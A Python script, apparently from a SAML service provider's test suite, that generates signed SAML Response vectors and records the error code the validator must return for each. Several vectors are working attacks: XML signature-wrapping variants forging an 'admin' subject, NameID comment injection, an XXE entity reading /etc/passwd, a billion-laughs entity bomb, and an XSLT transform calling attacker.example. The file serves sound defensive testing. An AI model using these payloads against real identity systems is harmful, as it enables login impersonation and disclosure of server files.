"""Regenerate the SAML Response vectors: ``.venv/bin/python -m tests.vectors.saml.generate``.

Every vector is a SAML Response as an IdP posts it to the ACS (decoded XML; the tests base64 it),
shaped like the ones Entra ID, Okta and SimpleSAMLphp send, signed by libxmlsec1 with the test
IdP key in ``keys/`` (or the attacker's), with fixed IDs and instants: the output is
byte-for-byte deterministic. The one exception is ``encrypted-assertion.xml``: XML Encryption
draws a fresh IV and OAEP seed, so that file is rewritten only when its decrypted assertion no
longer matches what this script would encrypt.

``manifest.json`` says, for each vector, what ``validate_response`` must do with it (``ok`` or
the ``SamlError.code``), with which ``expected_in_response_to`` and configuration changes, and
names the attack or spec section. Keys are created once (when missing) and committed.

Attack names follow "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al.,
USENIX Security 2012) for XSW 1-8, as SAML Raider implements them, and Duo Labs' 2018
comment-injection advisory (VU#475445).
"""

from __future__ import annotations

import copy
import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from lxml import etree

HERE = Path(__file__).resolve().parent
KEYS = HERE / "keys"

NOW = dt.datetime(2026, 1, 15, 10, 0, 0, tzinfo=dt.UTC)
SP_BASE_URL = "https://sp.example.test"
SP_SLUG = "acme"
SP_ENTITY_ID = f"{SP_BASE_URL}/sso/{SP_SLUG}/saml/metadata"
ACS_URL = f"{SP_BASE_URL}/sso/{SP_SLUG}/saml/acs"
IDP_ENTITY_ID = "https://idp.example.test/saml2/idp/metadata.php"
IDP_SSO_URL = "https://idp.example.test/saml2/idp/SSOService.php"
REQUEST_ID = "_5f0c1e2d3b4a59687766554433221100"
RESPONSE_ID = "_resp-7c9e6679-7425-40de-944b-e07fc1f90ae7"
ASSERTION_ID = "_assert-0f8fad5b-d9cb-469f-a165-70867728950e"
PERSISTENT_ID = "f3a5b1c2-8d4e-4f60-9a7b-2c1d0e9f8a7b"

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
TRANSIENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"
EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"


def _instant(delta_seconds: int, base: dt.datetime = NOW) -> str:
    return (base + dt.timedelta(seconds=delta_seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


# -- keys -------------------------------------------------------------------------------------

def _make_keypair(name: str, common_name: str) -> None:
    key_path, cert_path = KEYS / f"{name}.key", KEYS / f"{name}.crt"
    if key_path.exists() and cert_path.exists():
        return
    KEYS.mkdir(exist_ok=True)
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    start = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
    cert = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(start).not_valid_after(start + dt.timedelta(days=365 * 30))
            .sign(key, hashes.SHA256()))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                           serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))


def ensure_keys() -> None:
    """Create the committed key pairs if they are missing (they never change afterwards)."""
    _make_keypair("idp", "idp.example.test")
    _make_keypair("idp-next", "idp.example.test (rollover)")
    _make_keypair("attacker", "idp.example.test")  # same name: only the key tells them apart
    _make_keypair("sp", "sp.example.test")


def read_key(name: str) -> str:
    return (KEYS / name).read_text()


# -- the response ----------------------------------------------------------------------------

#: The SimpleSAMLphp shape (its prefixes and attribute layout), with Entra's claim URIs and an
#: Okta-style groups attribute; {placeholders} are filled from ``DEFAULTS``.
TEMPLATE = """\
<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" \
xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{response_id}" Version="2.0" \
IssueInstant="{issue_instant}" Destination="{destination}" InResponseTo="{in_response_to}">
  <saml:Issuer>{response_issuer}</saml:Issuer>
  <samlp:Status>
    <samlp:StatusCode Value="{status}"/>
  </samlp:Status>
  <saml:Assertion xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" \
xmlns:xs="http://www.w3.org/2001/XMLSchema" ID="{assertion_id}" Version="2.0" \
IssueInstant="{issue_instant}">
    <saml:Issuer>{assertion_issuer}</saml:Issuer>
    <saml:Subject>
      <saml:NameID SPNameQualifier="{audience}" Format="{name_id_format}">{name_id}</saml:NameID>
      <saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">
        <saml:SubjectConfirmationData NotOnOrAfter="{not_on_or_after}" Recipient="{recipient}" \
InResponseTo="{in_response_to}"/>
      </saml:SubjectConfirmation>
    </saml:Subject>
    <saml:Conditions NotBefore="{not_before}" NotOnOrAfter="{not_on_or_after}">
      <saml:AudienceRestriction>
        <saml:Audience>{audience}</saml:Audience>
      </saml:AudienceRestriction>
    </saml:Conditions>
    <saml:AuthnStatement AuthnInstant="{authn_instant}" SessionNotOnOrAfter="{session_end}" \
SessionIndex="_session-4b1c8e2f">
      <saml:AuthnContext>
        <saml:AuthnContextClassRef>\
urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef>
      </saml:AuthnContext>
    </saml:AuthnStatement>
    <saml:AttributeStatement>
      <saml:Attribute Name="urn:oid:0.9.2342.19200300.100.1.3" FriendlyName="mail" \
NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">
        <saml:AttributeValue xsi:type="xs:string">{email}</saml:AttributeValue>
      </saml:Attribute>
      <saml:Attribute Name="urn:oid:2.5.4.42" FriendlyName="givenName" \
NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">
        <saml:AttributeValue xsi:type="xs:string">Alice</saml:AttributeValue>
      </saml:Attribute>
      <saml:Attribute Name="urn:oid:2.5.4.4" FriendlyName="sn" \
NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">
        <saml:AttributeValue xsi:type="xs:string">Liddell</saml:AttributeValue>
      </saml:Attribute>
      <saml:Attribute Name="http://schemas.microsoft.com/identity/claims/displayname">
        <saml:AttributeValue>Alice Liddell</saml:AttributeValue>
      </saml:Attribute>
      <saml:Attribute Name="groups" \
NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">
{group_values}      </saml:Attribute>
    </saml:AttributeStatement>
  </saml:Assertion>
</samlp:Response>
"""

DEFAULTS: dict[str, Any] = {
    "response_id": RESPONSE_ID,
    "assertion_id": ASSERTION_ID,
    "issue_instant": _instant(-2),
    "authn_instant": _instant(-3),
    "not_before": _instant(-32),
    "not_on_or_after": _instant(298),
    "session_end": _instant(8 * 3600),
    "destination": ACS_URL,
    "recipient": ACS_URL,
    "in_response_to": REQUEST_ID,
    "response_issuer": IDP_ENTITY_ID,
    "assertion_issuer": IDP_ENTITY_ID,
    "status": "urn:oasis:names:tc:SAML:2.0:status:Success",
    "audience": SP_ENTITY_ID,
    "name_id_format": PERSISTENT,
    "name_id": PERSISTENT_ID,
    "email": "alice@example.org",
    "groups": ("Nurses", "Charge Nurses"),
}


def q(ns: str, tag: str) -> str:
    return f"{{{ns}}}{tag}"


def build(**overrides: Any) -> etree._Element:
    """The unsigned response with ``overrides`` applied to ``DEFAULTS``."""
    params = {**DEFAULTS, **overrides}
    params["group_values"] = "".join(
        f"        <saml:AttributeValue>{g}</saml:AttributeValue>\n" for g in params["groups"])
    return etree.fromstring(TEMPLATE.format(**params).encode())


def assertion_of(root: etree._Element) -> etree._Element:
    return root.find(q(SAML, "Assertion"))


def sign(element: etree._Element, *, key: str = "idp.key", cert: str = "idp.crt",
         method: Any = None, digest: Any = None, uri: str | None = None) -> etree._Element:
    """Sign ``element`` (an Assertion or the Response) the way IdPs do: an enveloped signature
    right after its Issuer, exclusive c14n, the signing certificate in KeyInfo. ``uri`` is the
    Reference URI (default ``#`` + the element's ID)."""
    method = method or xmlsec.constants.TransformRsaSha256
    digest = digest or xmlsec.constants.TransformSha256
    signature = xmlsec.template.create(element, xmlsec.constants.TransformExclC14N, method,
                                       ns="ds")
    element.find(q(SAML, "Issuer")).addnext(signature)
    ref = xmlsec.template.add_reference(signature, digest,
                                        uri=f"#{element.get('ID')}" if uri is None else uri)
    xmlsec.template.add_transform(ref, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(ref, xmlsec.constants.TransformExclC14N)
    key_info = xmlsec.template.ensure_key_info(signature)
    xmlsec.template.x509_data_add_certificate(xmlsec.template.add_x509_data(key_info))
    signing_key = xmlsec.Key.from_memory(read_key(key), xmlsec.constants.KeyDataFormatPem)
    signing_key.load_cert_from_memory(read_key(cert), xmlsec.constants.KeyDataFormatCertPem)
    ctx = xmlsec.SignatureContext()
    ctx.key = signing_key
    xmlsec.tree.add_ids(element.getroottree().getroot(), ["ID"])
    ctx.sign(signature)
    return element


def signed_assertion(**overrides: Any) -> etree._Element:
    root = build(**overrides)
    sign(assertion_of(root))
    return root


def child(element: etree._Element, tag: str) -> etree._Element | None:
    """The first direct child with ``tag``. (lxml's ``find`` matches names by pointer into the
    document's dictionary, and misses nodes libxmlsec1 created: compare strings instead.)"""
    return next((c for c in element if c.tag == tag), None)


def descendant(element: etree._Element, tag: str) -> etree._Element | None:
    return next((c for c in element.iter() if c.tag == tag), None)


def signature_of(element: etree._Element) -> etree._Element:
    return child(element, q(DS, "Signature"))


def encrypt_assertion(root: etree._Element, *, key_transport: Any = None) -> etree._Element:
    """Wrap the (signed) Assertion in EncryptedAssertion: AES-256-CBC, key by RSA-OAEP to the
    SP certificate, EncryptedKey inside EncryptedData's KeyInfo (as Entra and ADFS do)."""
    assertion = assertion_of(root)
    wrapper = etree.Element(q(SAML, "EncryptedAssertion"), nsmap={"saml": SAML})
    assertion.addprevious(wrapper)
    wrapper.append(assertion)
    data = xmlsec.template.encrypted_data_create(
        root, xmlsec.constants.TransformAes256Cbc, type=xmlsec.constants.TypeEncElement,
        ns="xenc")
    xmlsec.template.encrypted_data_ensure_cipher_value(data)
    key_info = xmlsec.template.encrypted_data_ensure_key_info(data, ns="ds")
    encrypted_key = xmlsec.template.add_encrypted_key(
        key_info, key_transport or xmlsec.constants.TransformRsaOaep)
    xmlsec.template.encrypted_data_ensure_cipher_value(encrypted_key)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(read_key("sp.crt"),
                                           xmlsec.constants.KeyDataFormatCertPem))
    ctx = xmlsec.EncryptionContext(manager)
    ctx.key = xmlsec.Key.generate(xmlsec.constants.KeyDataAes, 256,
                                  xmlsec.constants.KeyDataTypeSession)
    ctx.encrypt_xml(data, assertion)
    return root


def serialize(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8") + b"\n"


# -- the vectors -----------------------------------------------------------------------------

def v_valid_signed_assertion() -> etree._Element:
    return signed_assertion()


def v_valid_signed_response_and_assertion() -> etree._Element:
    root = signed_assertion()
    return sign(root)


def v_valid_signed_response_only() -> etree._Element:
    return sign(build())


def v_valid_signed_by_rollover_key() -> etree._Element:
    root = build()
    sign(assertion_of(root), key="idp-next.key", cert="idp-next.crt")
    return root


def v_idp_initiated() -> etree._Element:
    root = build()
    del root.attrib["InResponseTo"]
    del assertion_of(root).find(f".//{q(SAML, 'SubjectConfirmationData')}").attrib[
        "InResponseTo"]
    sign(assertion_of(root))
    return root


def v_email_name_id() -> etree._Element:
    return signed_assertion(name_id_format=EMAIL, name_id="alice@example.org")


def v_comment_injection_nameid() -> etree._Element:
    # The attacker registered "admin@x.org.evil.com" at the IdP and got this assertion signed;
    # the comment leaves the exclusive c14n (without comments) unchanged, so the signature holds.
    root = signed_assertion(name_id_format=EMAIL, name_id="admin@x.org.evil.com",
                            email="admin@x.org.evil.com")
    name_id = assertion_of(root).find(f".//{q(SAML, 'NameID')}")
    name_id.text = "admin@x.org"
    comment = etree.Comment("")
    comment.tail = ".evil.com"
    name_id.append(comment)
    return root


def v_signature_removed() -> etree._Element:
    root = signed_assertion()
    signature = signature_of(assertion_of(root))
    signature.getparent().remove(signature)
    return root


def v_signed_by_other_key() -> etree._Element:
    # signed with the attacker's key, the IdP's genuine certificate copied into KeyInfo
    root = build()
    sign(assertion_of(root), key="attacker.key", cert="idp.crt")
    return root


def v_attacker_cert_in_keyinfo() -> etree._Element:
    root = build()
    sign(assertion_of(root), key="attacker.key", cert="attacker.crt")
    return root


def v_digest_mismatch() -> etree._Element:
    root = signed_assertion()
    assertion_of(root).find(f".//{q(SAML, 'NameID')}").text = "admin"
    return root


def v_sha1_signature() -> etree._Element:
    root = build()
    sign(assertion_of(root), method=xmlsec.constants.TransformRsaSha1)
    return root


def v_sha1_digest() -> etree._Element:
    root = build()
    sign(assertion_of(root), digest=xmlsec.constants.TransformSha1)
    return root


def _add_transform(root: etree._Element, algorithm: str, body: str) -> etree._Element:
    reference = descendant(signature_of(assertion_of(root)), q(DS, "Reference"))
    transforms = child(reference, q(DS, "Transforms"))
    transform = etree.fromstring(
        f'<ds:Transform xmlns:ds="{DS}" Algorithm="{algorithm}">{body}</ds:Transform>')
    transforms.insert(0, transform)
    return root


def v_xslt_transform() -> etree._Element:
    # XSLT runs attacker code at verification time (XML-DSig 6.6.5; "XML Signature Best
    # Practices" 2.1.2): refused before anything is verified
    return _add_transform(signed_assertion(), "http://www.w3.org/TR/1999/REC-xslt-19991116", (
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/x\')"/>'
        "</xsl:template></xsl:stylesheet>"))


def v_xpath_transform() -> etree._Element:
    return _add_transform(signed_assertion(), "http://www.w3.org/TR/1999/REC-xpath-19991116",
                          "<ds:XPath>count(//. | //@* | //namespace::*)</ds:XPath>")


def v_xpath_filter2_transform() -> etree._Element:
    return _add_transform(
        signed_assertion(), "http://www.w3.org/2002/06/xmldsig-filter2",
        '<dsig-xpath:XPath xmlns:dsig-xpath="http://www.w3.org/2002/06/xmldsig-filter2" '
        'Filter="subtract">//*[local-name()="NameID"]</dsig-xpath:XPath>')


def v_audience_mismatch() -> etree._Element:
    return signed_assertion(audience="https://other-sp.example.test/saml/metadata")


def v_audience_restriction_missing() -> etree._Element:
    root = build()
    conditions = assertion_of(root).find(q(SAML, "Conditions"))
    for child in list(conditions):
        conditions.remove(child)
    conditions.text = None
    sign(assertion_of(root))
    return root


def v_recipient_substring() -> etree._Element:
    # the ACS URL contains this Recipient: a substring/prefix comparison would accept it
    return signed_assertion(recipient=f"{SP_BASE_URL}/sso/{SP_SLUG}/saml/ac")


def v_destination_mismatch() -> etree._Element:
    root = signed_assertion(destination=f"{SP_BASE_URL}/sso/other/saml/acs")
    return sign(root)


def v_issuer_mismatch() -> etree._Element:
    # Entra ID signs every tenant with the same keys: only the Issuer tells tenants apart
    other = "https://sts.windows.net/00000000-0000-0000-0000-000000000bad/"
    return signed_assertion(response_issuer=other, assertion_issuer=other)


def v_expired() -> etree._Element:
    return signed_assertion(issue_instant=_instant(-3600), authn_instant=_instant(-3601),
                            not_before=_instant(-3630), not_on_or_after=_instant(-3300))


def v_not_yet_valid() -> etree._Element:
    return signed_assertion(issue_instant=_instant(3600), authn_instant=_instant(3599),
                            not_before=_instant(3570), not_on_or_after=_instant(3900))


def v_unsolicited_in_response_to() -> etree._Element:
    # a response to somebody else's AuthnRequest, posted as if it were IdP-initiated
    return signed_assertion(in_response_to="_0a1b2c3d4e5f60718293a4b5c6d7e8f9")


def v_in_response_to_stripped() -> etree._Element:
    # the Response is not signed: an attacker can drop its InResponseTo and leave the rest
    root = signed_assertion()
    del root.attrib["InResponseTo"]
    return root


def v_status_not_success_signed_assertion() -> etree._Element:
    return signed_assertion(status="urn:oasis:names:tc:SAML:2.0:status:Responder")


def v_two_assertions() -> etree._Element:
    root = signed_assertion()
    other = signed_assertion(assertion_id="_assert-second-5b6c7d8e", name_id="other-user")
    assertion_of(root).addnext(assertion_of(other))
    return root


def v_transient_name_id() -> etree._Element:
    return signed_assertion(name_id_format=TRANSIENT,
                            name_id="_4f6e2a1b9c8d7e6f5a4b3c2d1e0f9a8b")


def v_duplicate_id() -> etree._Element:
    # an unsigned element in Extensions borrows the assertion's ID
    root = signed_assertion()
    extensions = etree.SubElement(root, q(SAMLP, "Extensions"))
    root.remove(extensions)
    root.find(q(SAML, "Issuer")).addnext(extensions)
    etree.SubElement(extensions, "{urn:example:evil}Note", ID=ASSERTION_ID).text = "x"
    return root


def v_signature_reference_not_enveloping() -> etree._Element:
    # the Response's valid signature moved into the (unsigned) Assertion: xmlsec alone verifies
    # it, but it signs the Response, not the Assertion that carries it
    root = sign(build())
    signature = signature_of(root)
    assertion_of(root).find(q(SAML, "Issuer")).addnext(signature)
    return root


def v_encrypted_assertion() -> etree._Element:
    return encrypt_assertion(signed_assertion())


def v_encrypted_assertion_unsigned() -> etree._Element:
    # encrypted to the SP, but anybody holding the SP certificate can do that: not a signature
    return encrypt_assertion(build())


# XSW 1-8 (Somorovsky et al. 2012, table 1; SAML Raider's names). The evil assertion names
# "admin" as the subject; every vector otherwise holds a genuine signature.
def _evil(assertion: etree._Element, new_id: str) -> etree._Element:
    evil = copy.deepcopy(assertion)
    evil.set("ID", new_id)
    signature = signature_of(evil)
    if signature is not None:
        evil.remove(signature)
    evil.find(f".//{q(SAML, 'NameID')}").text = "admin"
    return evil


def v_xsw_1_response_wrapper_original_in_signature() -> etree._Element:
    original = sign(build())
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil-response")
    evil.remove(signature_of(evil))
    evil.find(f".//{q(SAML, 'NameID')}").text = "admin"
    signature = signature_of(original)
    original.remove(signature)
    evil.find(q(SAML, "Issuer")).addnext(signature)
    obj = etree.SubElement(signature, q(DS, "Object"))
    obj.append(original)
    return evil


def v_xsw_2_response_wrapper_original_detached() -> etree._Element:
    original = sign(build())
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil-response")
    evil.remove(signature_of(evil))
    evil.find(f".//{q(SAML, 'NameID')}").text = "admin"
    signature = signature_of(original)
    original.remove(signature)
    evil.find(q(SAML, "Issuer")).addnext(signature)
    signature.addprevious(original)
    return evil


def v_xsw_3_evil_assertion_first() -> etree._Element:
    root = signed_assertion()
    original = assertion_of(root)
    original.addprevious(_evil(original, "_evil-assertion"))
    return root


def v_xsw_4_evil_assertion_wraps_original() -> etree._Element:
    root = signed_assertion()
    original = assertion_of(root)
    evil = _evil(original, "_evil-assertion")
    original.addprevious(evil)
    evil.append(original)
    return root


def v_xsw_5_evil_assertion_carries_signature() -> etree._Element:
    root = signed_assertion()
    original = assertion_of(root)
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil-assertion")
    evil.find(f".//{q(SAML, 'NameID')}").text = "admin"
    original.remove(signature_of(original))
    original.addprevious(evil)
    root.append(original)
    return root


def v_xsw_6_original_in_evil_signature_object() -> etree._Element:
    root = signed_assertion()
    original = assertion_of(root)
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil-assertion")
    evil.find(f".//{q(SAML, 'NameID')}").text = "admin"
    original.addprevious(evil)
    original.remove(signature_of(original))
    etree.SubElement(signature_of(evil), q(DS, "Object")).append(original)
    return root


def v_xsw_7_original_in_extensions() -> etree._Element:
    root = signed_assertion()
    original = assertion_of(root)
    evil = _evil(original, "_evil-assertion")
    original.addprevious(evil)
    extensions = etree.Element(q(SAMLP, "Extensions"))
    root.find(q(SAML, "Issuer")).addnext(extensions)
    extensions.append(original)
    return root


def v_xsw_8_original_unsigned_in_evil_signature_object() -> etree._Element:
    root = signed_assertion()
    original = assertion_of(root)
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil-assertion")
    evil.find(f".//{q(SAML, 'NameID')}").text = "admin"
    original.addprevious(evil)
    original.remove(signature_of(original))
    etree.SubElement(signature_of(evil), q(DS, "Object")).append(original)
    return root


# The same attacks on the other accepted shape: the Response signed as a whole, the Assertion
# unsigned (Keycloak's default). The genuine signature covers the Response minus its own
# Signature element (enveloped-signature transform): whatever is put inside that Signature is
# not covered, and a reader that looks for "the first Assertion in the document" finds it.
def _signed_response_only() -> etree._Element:
    return sign(build())


def v_xsw_response_evil_assertion_in_signature_object() -> etree._Element:
    # the genuine Response signature still verifies: the evil assertion sits in its Object,
    # before the original in document order
    root = _signed_response_only()
    etree.SubElement(signature_of(root), q(DS, "Object")).append(
        _evil(assertion_of(root), "_evil-assertion"))
    return root


def v_xsw_response_evil_assertion_first() -> etree._Element:
    root = _signed_response_only()
    original = assertion_of(root)
    original.addprevious(_evil(original, "_evil-assertion"))
    return root


def v_xsw_response_original_in_signature_object() -> etree._Element:
    # the evil assertion takes the original's place; the original hides in the Signature
    root = _signed_response_only()
    original = assertion_of(root)
    original.addprevious(_evil(original, "_evil-assertion"))
    etree.SubElement(signature_of(root), q(DS, "Object")).append(original)
    return root


def v_xsw_response_evil_assertion_in_extensions() -> etree._Element:
    root = _signed_response_only()
    extensions = etree.Element(q(SAMLP, "Extensions"))
    signature_of(root).addnext(extensions)
    extensions.append(_evil(assertion_of(root), "_evil-assertion"))
    return root


def v_xsw_response_signed_original_in_evil_extensions() -> etree._Element:
    # an unsigned evil Response carries the genuine signed Response in its Extensions
    original = _signed_response_only()
    evil = build(response_id="_evil-response", name_id="admin", assertion_id="_evil-assertion")
    extensions = etree.Element(q(SAMLP, "Extensions"))
    evil.find(q(SAML, "Issuer")).addnext(extensions)
    extensions.append(original)
    return evil


def v_xsw_response_evil_assertion_borrows_response_id() -> etree._Element:
    # a lookup of the Reference's "#ID" may find the evil element instead of the Response
    root = _signed_response_only()
    etree.SubElement(signature_of(root), q(DS, "Object")).append(
        _evil(assertion_of(root), RESPONSE_ID))
    return root


def v_response_signature_reference_empty_uri() -> etree._Element:
    # URI="" (the whole document) verifies, but SAML Core 5.4.2 wants the element's own ID
    return sign(build(), uri="")


def v_response_only_digest_mismatch() -> etree._Element:
    root = _signed_response_only()
    assertion_of(root).find(f".//{q(SAML, 'NameID')}").text = "admin"
    return root


def v_response_only_signed_by_other_key() -> etree._Element:
    return sign(build(), key="attacker.key", cert="idp.crt")


def v_signed_response_with_assertion_signed_by_other_key() -> etree._Element:
    # the Response verifies, but a present Assertion signature must verify too
    root = build()
    sign(assertion_of(root), key="attacker.key", cert="idp.crt")
    return sign(root)


def v_encrypted_assertion_in_signed_response() -> etree._Element:
    # Keycloak's "Sign documents" with "Encrypt assertions": the signature covers the ciphertext
    return sign(encrypt_assertion(build()))


BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE samlp:Response [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE samlp:Response [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
"""


def _with_doctype(prolog: bytes, entity: str) -> bytes:
    # signed with a placeholder, the entity reference put in afterwards (a DTD is refused
    # before any signature is looked at)
    body = serialize(signed_assertion(email=f"ENTITY-{entity}"))
    body = body.replace(f"ENTITY-{entity}".encode(), f"&{entity};".encode())
    return prolog + body.split(b"?>\n", 1)[1]


Case = dict[str, Any]

#: file name -> (builder, cases); a case says what validate_response must do with the file
VECTORS: dict[str, tuple[Callable[[], etree._Element | bytes], list[Case]]] = {
    "valid-signed-assertion.xml": (v_valid_signed_assertion, [
        {"expect": "ok", "spec": "Profiles 4.1.4.2 (Entra's default: the assertion signed)"}]),
    "valid-signed-response-and-assertion.xml": (v_valid_signed_response_and_assertion, [
        {"expect": "ok", "spec": "Core 5.2; Okta and SimpleSAMLphp sign both"}]),
    "valid-signed-response-only.xml": (v_valid_signed_response_only, [
        {"expect": "ok", "spec": "Core 5.2: a signed Response covers its one Assertion "
                                 "(the default; Keycloak's \"Sign documents\")"},
        {"expect": "signature_missing", "config": {"require_signed_assertion": True},
         "spec": "require_signed_assertion: the Assertion must be signed too"}]),
    "valid-signed-by-rollover-key.xml": (v_valid_signed_by_rollover_key, [
        {"expect": "signature_invalid", "spec": "only pinned certificates verify"},
        {"expect": "ok", "config": {"idp_certs": ["idp.crt", "idp-next.crt"]},
         "spec": "Metadata 2.4.1.1: two signing certificates during a rollover"}]),
    "idp-initiated.xml": (v_idp_initiated, [
        {"expect": "unsolicited_response", "in_response_to": None,
         "spec": "Profiles 4.1.5: unsolicited responses off by default"},
        {"expect": "ok", "in_response_to": None, "config": {"allow_idp_initiated": True},
         "spec": "Profiles 4.1.5: unsolicited response, allowed"},
        {"expect": "in_response_to_mismatch",
         "spec": "Profiles 4.1.4.3: a solicited login gets an answer without InResponseTo"}]),
    "email-name-id.xml": (v_email_name_id, [
        {"expect": "ok", "spec": "Core 8.3.2 emailAddress NameID, accepted with a note"},
        {"expect": "name_id_not_allowed", "config": {"allow_email_name_id": False},
         "spec": "emailAddress NameID refused by configuration"}]),
    "comment-injection-nameid.xml": (v_comment_injection_nameid, [
        {"expect": "ok", "subject": "admin@x.org.evil.com",
         "spec": "Duo Labs 2018 / VU#475445: the comment must not truncate the NameID"}]),
    "signature-removed.xml": (v_signature_removed, [
        {"expect": "signature_missing", "spec": "Profiles 4.1.3.5: nothing signed at all"},
        {"expect": "signature_missing", "config": {"require_signed_assertion": True},
         "spec": "Profiles 4.1.3.5: the assertion must be signed"}]),
    "signed-by-other-key.xml": (v_signed_by_other_key, [
        {"expect": "signature_invalid",
         "spec": "XML-DSig 4.4: the IdP's certificate in KeyInfo, the attacker's key"}]),
    "attacker-cert-in-keyinfo.xml": (v_attacker_cert_in_keyinfo, [
        {"expect": "signature_invalid",
         "spec": "XML-DSig 4.4: KeyInfo is never trusted, only pinned certificates"}]),
    "digest-mismatch.xml": (v_digest_mismatch, [
        {"expect": "signature_invalid", "spec": "XML-DSig 3.2.1: reference validation"}]),
    "sha1-signature.xml": (v_sha1_signature, [
        {"expect": "algorithm_forbidden", "spec": "rsa-sha1 refused by default (SHAttered)"},
        {"expect": "ok", "config": {"allow_sha1": True}, "spec": "allow_sha1 for legacy IdPs"}]),
    "sha1-digest.xml": (v_sha1_digest, [
        {"expect": "algorithm_forbidden", "spec": "sha1 digest refused by default"},
        {"expect": "ok", "config": {"allow_sha1": True}, "spec": "allow_sha1 for legacy IdPs"}]),
    "xslt-transform.xml": (v_xslt_transform, [
        {"expect": "algorithm_forbidden", "spec": "XML-DSig 6.6.5 XSLT transform refused"}]),
    "xpath-transform.xml": (v_xpath_transform, [
        {"expect": "algorithm_forbidden", "spec": "XML-DSig 6.6.3 XPath transform refused"}]),
    "xpath-filter2-transform.xml": (v_xpath_filter2_transform, [
        {"expect": "algorithm_forbidden", "spec": "XPath Filter 2.0 transform refused"}]),
    "audience-mismatch.xml": (v_audience_mismatch, [
        {"expect": "audience_mismatch", "spec": "Core 2.5.1.4 AudienceRestriction"}]),
    "audience-restriction-missing.xml": (v_audience_restriction_missing, [
        {"expect": "audience_mismatch", "spec": "Profiles 4.1.4.2: AudienceRestriction required"}]),
    "recipient-substring.xml": (v_recipient_substring, [
        {"expect": "recipient_mismatch",
         "spec": "Profiles 4.1.4.3: Recipient equals the ACS URL, not a substring of it"}]),
    "destination-mismatch.xml": (v_destination_mismatch, [
        {"expect": "destination_mismatch", "spec": "Core 3.2.2 / Bindings 3.5.5.2 Destination"}]),
    "issuer-mismatch.xml": (v_issuer_mismatch, [
        {"expect": "issuer_mismatch", "spec": "Profiles 4.1.4.2 Issuer (Entra: shared keys)"}]),
    "expired.xml": (v_expired, [
        {"expect": "expired", "spec": "Core 2.5.1.2 NotOnOrAfter"}]),
    "not-yet-valid.xml": (v_not_yet_valid, [
        {"expect": "not_yet_valid", "spec": "Core 2.5.1.2 NotBefore"}]),
    "unsolicited-in-response-to.xml": (v_unsolicited_in_response_to, [
        {"expect": "in_response_to_mismatch", "in_response_to": None,
         "config": {"allow_idp_initiated": True},
         "spec": "Profiles 4.1.5: an unsolicited response carries no InResponseTo"},
        {"expect": "in_response_to_mismatch",
         "spec": "Profiles 4.1.4.3: the answer to another AuthnRequest"}]),
    "in-response-to-stripped.xml": (v_in_response_to_stripped, [
        {"expect": "in_response_to_mismatch",
         "spec": "Core 3.2.2: InResponseTo removed from the unsigned Response"}]),
